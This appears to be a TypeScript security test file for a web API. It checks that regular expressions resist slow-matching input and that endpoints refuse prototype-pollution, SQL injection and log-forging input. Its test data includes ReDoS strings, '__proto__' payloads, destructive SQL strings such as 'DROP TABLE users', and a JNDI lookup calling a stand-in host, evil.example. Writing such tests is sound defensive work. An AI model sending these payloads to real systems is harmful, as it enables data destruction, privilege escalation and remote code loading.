/** Attacks with input values: slow regular expressions, polluted prototypes, injection. */
import { strict as assert } from "node:assert";
import { execFileSync } from "node:child_process";
import { check } from "recheck";
import { call, eventually } from "../../support/http.ts";
import { composed, findRegexes } from "./regexes.ts";
import { exec, insideService, PAGE, type Login, type Target } from "./target.ts";

export function regexes(get: () => Target): void {
  const { literals, made } = findRegexes();
  const all = [...literals, ...Object.entries(composed).map(([place, regex]) => ({ place, regex }))];

  it("none is superlinear, as recheck finds", async () => {
    assert.ok(literals.length > 30, `${literals.length} found`);
    assert.equal(made.length, Object.keys(composed).length, made.join(" "));
    const results = await Promise.all(
      all.map(async ({ place, regex }) => {
        const { status } = await check(regex.source, regex.flags, { timeout: 20_000 });
        return { place, status };
      }),
    );
    assert.deepEqual(
      results.filter(({ status }) => status !== "safe"),
      [],
    );
  });

  it("each handles 50 kB of the worst known input within 50 ms", () => {
    for (const { place, regex } of all) {
      for (const text of EVIL) {
        // A regex with the flag g or y continues where its last match ended.
        regex.lastIndex = 0;
        // Of the processor, which other programs may have in between.
        const begun = process.cpuUsage();
        regex.test(text);
        const { user, system } = process.cpuUsage(begun);
        const took = (user + system) / 1000;
        assert.ok(took < 50, `${place}: ${took} ms for ${text.slice(0, 10)}…`);
      }
    }
  });

  it("the service handles such a text without delaying other requests", async () => {
    const target = get();
    const login = await target.login();
    const send = (text: string): Promise<unknown>[] => [
      target.ask("/api/events", {
        method: "POST",
        body: { topic: text, type: text, data: 1 },
        headers: login.headers,
      }),
      target.ask("/api/auth/login", {
        method: "POST",
        body: { username: text.slice(0, 8000), password: "x" },
        headers: { origin: PAGE },
      }),
      ...["authorization", "idempotency-key", "last-event-id", "x-csrf-token", "cookie"].map((name) =>
        target.ask(`/api/events/poll?topics=${encodeURIComponent(text.slice(0, 2000))}`, {
          headers: { [name]: text.slice(0, 6000) },
        }),
      ),
    ];
    const quiet = await target.p99();
    const sent = () => EVIL.filter((text) => /^[\x20-\x7e]+$/.test(text)).flatMap(send);
    const [results] = await Promise.all([Promise.allSettled(sent()), target.isServed(quiet)]);
    for (const { status } of results) assert.equal(status, "fulfilled");
  }).timeout(300_000);
}

const repeated = (text: string, end = ""): string => text.repeat(Math.ceil(50_000 / text.length)) + end;
const EVIL = [
  repeated("a", "!"),
  repeated("a.", "!"),
  repeated("a,"),
  repeated("a.*,"),
  repeated("1", "x"),
  repeated("0-", "!"),
  repeated(" ", "x"),
  repeated("/", "x"),
  repeated("=", "!"),
  repeated("A-_", "\n"),
  repeated("; charset="),
  repeated('"', "a"),
  `Bearer ${repeated(" ", "!")}`,
  `Bearer ${repeated("=", "!")}`,
  repeated("1.", "1"),
  repeated("\u0000"),
  repeated("\r\n"),
  repeated("é"),
];

export function pollution(get: () => Target): void {
  let login: Login;
  before(async () => {
    login = await get().login();
  });

  const post = (path: string, body: unknown) => {
    // JSON.parse makes `__proto__` an own property, and JSON.stringify keeps it.
    return get().ask(path, { method: "POST", body, headers: login.headers });
  };
  const payloads = [
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"__proto__":{"__proto__":{"isAdmin":true}}}',
  ];

  for (const [path, valid] of [
    ["/api/events", { type: "polluted", data: 1 }],
    ["/api/auth/tokens", { name: "polluted", scopes: ["events:read"] }],
    ["/api/diag/client-reports", { client: "polluted-client" }],
  ] as const) {
    it(`${path} refuses what is in no schema of its own`, async () => {
      for (const payload of payloads) {
        const body = JSON.parse(`${JSON.stringify(valid).slice(0, -1)},${payload.slice(1)}`) as unknown;
        const { status, text } = await post(path, body);
        assert.equal(status, 400, `${payload}: ${text}`);
      }
    });
  }

  it("it changes neither a login nor a refresh", async () => {
    for (const payload of payloads) {
      const body = JSON.parse(`{"username":"nobody","password":"wrong",${payload.slice(1)}`) as unknown;
      assert.equal((await post("/api/auth/login", body)).status, 400);
      assert.equal((await post("/api/auth/refresh", JSON.parse(payload))).status, 400);
    }
  });

  it("in a query it is only a name, and a parameter that comes twice is refused", async () => {
    for (const query of [
      "a[__proto__][isAdmin]=1",
      "__proto__[isAdmin]=1",
      "constructor[prototype][isAdmin]=1",
    ]) {
      for (const path of ["/api/events/poll", "/api/diag", "/api/diag/connections"]) {
        const { status } = await get().ask(`${path}?${query}&topics[__proto__]=x`, {
          headers: login.headers,
        });
        // The list of connections refuses unknown parameters; the other routes read only their own.
        assert.equal(status, path.endsWith("connections") ? 400 : 200, `${path}?${query}`);
      }
    }
    for (const path of ["/api/events/poll", "/api/diag/connections"])
      assert.equal(
        (await get().ask(`${path}?limit=1&limit=2`, { headers: login.headers })).status,
        400,
        path,
      );
  });

  it("an event's data may contain it, and is passed on unchanged", async () => {
    const start = await get().position();
    const sent = payloads.map((payload) => JSON.parse(payload) as unknown);
    for (const data of sent) assert.equal((await post("/api/events", { type: "carried", data })).status, 201);
    const carried = await eventually("the events", 30, async () => {
      const events = await get().events(start);
      return events.length >= sent.length && events;
    });
    assert.deepEqual(
      carried.map(({ data }) => JSON.stringify(data)),
      payloads,
    );
  });

  it("no object in a replica has the polluted property", async () => {
    for (const backend of get().backends) {
      const seen = await insideService<unknown>(
        backend,
        `[typeof ({}).isAdmin, typeof [].isAdmin, typeof (() => 0).isAdmin, Object.keys(Object.prototype).length]`,
      );
      assert.deepEqual(seen, ["undefined", "undefined", "undefined", 0]);
    }
  });
}

export function injection(get: () => Target): void {
  const texts = [
    "' OR '1'='1' --",
    "'; DROP TABLE users; --",
    '"; SELECT pg_sleep(5); --',
    "\\'; COMMIT; --",
    "$1); DELETE FROM users; --",
    "a\u0000b",
    'a\r\n{"level":"fatal","msg":"forged-line"}',
    "a\u001b[31mred\u001b[0m\u001b]0;title\u0007",
    "\u2028\u2029\u0085",
    "%s%n%d ${jndi:ldap://evil.example/a}",
  ];

  it("is ordinary text in every field that reaches the database", async () => {
    const target = get();
    const login = await target.login();
    const post = (path: string, body: unknown, headers = {}) =>
      target.ask(path, { method: "POST", body, headers: { ...login.headers, ...headers } });
    for (const text of texts) {
      const name = await post("/api/auth/tokens", { name: text, scopes: ["events:read"], days: 1 });
      assert.ok([201, 400].includes(name.status), name.text);
      const report = { client: "injected-client", errors: [{ message: text, source: text }] };
      assert.equal((await post("/api/diag/client-reports", report)).status, 202);
      assert.equal((await post("/api/events", { type: "injected", data: text })).status, 201);
      assert.equal((await post("/api/events", { type: text, topic: text, data: 1 })).status, 400);
      const query = encodeURIComponent(text);
      for (const path of [
        `/api/auth/tokens?id=${query}`,
        `/api/events/poll?after=${query}&topics=${query}`,
      ]) {
        const method = path.includes("tokens?") ? "DELETE" : "GET";
        const { status } = await target.ask(path, { method, headers: login.headers });
        assert.ok(status < 500 && status >= 200, `${path}: ${status}`);
      }
    }
    // Names that no user has, of the kind that a faulty query would let in; fewer than one address may try.
    for (const username of texts.slice(0, 3)) {
      const { status } = await post("/api/auth/login", { username, password: "' OR '1'='1" });
      assert.equal(status, 401);
    }
    const [postgres = ""] = await target.stack.containers("postgres");
    // Its record has the statements that came to their end, and its log those that took longer than a second or were cancelled.
    const slept = "SELECT query FROM pg_stat_statements WHERE query ~* 'pg_sleep *\\('";
    const psql = ["psql", "-XAt", "-U", "postgres", "-d", "omniai", "-c"];
    assert.equal(await exec(postgres, ...psql, slept), "", "something slept");
    const log = ["-c", 'docker logs "$0" 2>&1', postgres];
    const lines = execFileSync("sh", log, { encoding: "utf8", maxBuffer: 64 << 20 }).split("\n");
    assert.deepEqual(
      lines.filter((line) => line.includes("pg_sleep(")),
      [],
    );
    assert.ok(await target.isIn((await target.login()).cookie), "the users are still there");
  });

  it("each log line of the replicas and the edge is one JSON object, whatever was sent", async () => {
    const target = get();
    for (const text of texts) {
      const query = encodeURIComponent(text);
      await target.ask(`/api/${query}?topics=${query}`, { headers: { "user-agent": query, referer: query } });
      await target.ask(`/api/events/poll?topics=public.*&after=${query}`);
    }
    const id = "log-injection-was-here";
    await call(`${target.stack.https}/api/auth/check`, { headers: { "x-request-id": id } });
    const logs = await eventually("the last line", 60, async () => {
      const all = await target.logs();
      return all.includes(id) && all;
    });
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(logs, /[\u0000-\u0008\u000b-\u001f\u007f]/);
    const lines = logs.split("\n").filter((line) => line.startsWith("{"));
    assert.ok(lines.length > 100);
    for (const line of lines) assert.doesNotThrow(() => JSON.parse(line) as unknown, line);
    assert.doesNotMatch(logs, /^\{"level":"fatal","msg":"forged-line"/m);
  });
}
